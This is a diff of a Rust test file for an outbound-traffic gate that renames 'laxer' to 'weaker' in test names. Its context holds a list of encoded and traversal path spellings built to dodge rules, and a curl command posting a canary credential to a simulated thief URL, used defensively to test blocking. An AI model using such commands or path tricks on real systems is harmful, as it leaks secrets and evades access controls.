@@ -1,5 +1,5 @@
 //! Rules with a mode of their own: what it does to a finding, and that no
-//! spelling, order or company of a request gets a laxer one than its rule's.
+//! spelling, order or company of a request gets a weaker one than its rule's.
 
 use outgate_harness::audit::{of_kind, records, text};
 use outgate_harness::origin::Origin;
@@ -103,7 +103,7 @@ lab_tests! {
         assert!(credential.pieces().all(|piece| !all.contains(piece)), "{all}");
     }
 
-    fn no_spelling_of_a_path_chooses_a_laxer_rule(lab) {
+    fn no_spelling_of_a_path_chooses_a_weaker_rule(lab) {
         let (thief, credential) = (thief(), Credential::new());
         let paths = [
             "/OPEN/a", "/open%2fa", "/open/../a", "/x/..%2fopen/a", "/open;a/b", "/openx/a", "/%2e%2e/open/../a",
@@ -168,7 +168,7 @@ lab_tests! {
         }
     }
 
-    fn under_strict_no_rule_is_laxer_and_no_rule_lets_a_canary_pass_with_a_record(lab) {
+    fn under_strict_no_rule_is_weaker_and_no_rule_lets_a_canary_pass_with_a_record(lab) {
         let (thief, credential) = (thief(), Credential::new());
         for path in ["/noted/a", "/open/a"] {
             let script = format!("curl -sS -d t={} $URL{path}", credential.text());
